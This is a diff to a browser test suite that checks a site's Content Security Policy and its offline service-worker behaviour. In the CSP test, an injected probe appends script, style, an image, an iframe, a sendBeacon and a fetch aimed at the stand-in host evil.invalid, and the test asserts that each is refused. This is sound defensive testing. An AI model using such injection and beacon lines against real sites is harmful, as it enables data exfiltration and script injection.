@@ -58,6 +58,12 @@ journey('no request on any page, and none is missed offline', { ...NO_COUNTRY, p
   };
   await walk();
   assert.deepEqual(requests, []);
+
+  // From the second visit on the worker answers.
+  await page.reload();
+  await page.getByRole('main').waitFor();
+  await page.waitForLoadState('networkidle');
+  requests.length = 0;
   await context.setOffline(true);
   await walk();
   assert.deepEqual(requests, []);
@@ -90,33 +96,40 @@ test('the policy allows the files of the site and nothing else', async () => {
   }
 });
 
-journey('the browser keeps to the policy', { allow: [/Content Security Policy/, /Refused to/, /evil\.invalid/] }, async ({ page }) => {
-  await page.getByRole('main').waitFor();
-  const broken = await page.evaluate(async () => {
-    const seen = [];
-    document.addEventListener('securitypolicyviolation', (it) => seen.push(it.effectiveDirective));
-    const script = document.createElement('script');
-    script.textContent = 'globalThis.ran = 1';
-    document.head.append(script);
-    const style = document.createElement('style');
-    style.textContent = 'p { color: red }';
-    document.head.append(style);
-    const image = new Image();
-    image.src = 'https://evil.invalid/x.png';
-    const frame = document.createElement('iframe');
-    frame.src = 'https://evil.invalid/';
-    document.body.append(frame);
-    await fetch('https://evil.invalid/').catch(() => {});
-    navigator.sendBeacon('https://evil.invalid/', 'x');
+// What somebody would try who has got a script into the site itself. A debugger's own evaluation
+// may do more than the page, so this is a file.
+const PROBE = `
+  globalThis.refused = [];
+  document.addEventListener('securitypolicyviolation', (it) => refused.push(it.effectiveDirective));
+  const put = (name, parent, values) => {
     try {
-      new Function('globalThis.ran = 1')();
+      parent.append(Object.assign(document.createElement(name), values));
     } catch {
-      // As it should be.
+      // As it should be, for text that would be a script.
     }
-    await new Promise((resolve) => setTimeout(resolve, 100));
-    return [seen.sort(), globalThis.ran];
-  });
-  assert.deepEqual(broken, [['connect-src', 'connect-src', 'frame-src', 'img-src', 'script-src', 'script-src-elem', 'style-src-elem'], undefined]);
+  };
+  put('p', document.body, { innerHTML: '<b id="markup">markup</b>' });
+  put('script', document.head, { textContent: 'globalThis.ran = 1' });
+  put('style', document.head, { textContent: 'p { color: red }' });
+  put('img', document.body, { src: 'https://evil.invalid/x.png' });
+  put('iframe', document.body, { src: 'https://evil.invalid/' });
+  navigator.sendBeacon('https://evil.invalid/', 'x');
+  try {
+    new Function('globalThis.ran = 1')();
+  } catch {
+    // As it should be.
+  }
+  fetch('https://evil.invalid/').catch(() => {});
+`;
+
+journey('the browser keeps to the policy', { path: null, allow: [/Content Security Policy/, /Refused to/, /evil\.invalid/, /TrustedHTML|TrustedScript/] }, async ({ page, site, goto }) => {
+  // A file of the site that the page loads anyway.
+  site.change('update.js', `${await readFile(join(DIST, 'update.js'), 'utf8')}\n${PROBE}`);
+  await goto('./');
+  await page.getByRole('main').waitFor();
+  const refused = ['connect-src', 'connect-src', 'frame-src', 'img-src', 'script-src', 'script-src-elem', 'style-src-elem'];
+  await settles(() => page.evaluate(() => globalThis.refused?.toSorted()), refused);
+  assert.equal(await page.evaluate(() => globalThis.ran), undefined);
 });
 
 // A page that is being watched: nothing has run, and no element came out of the text.
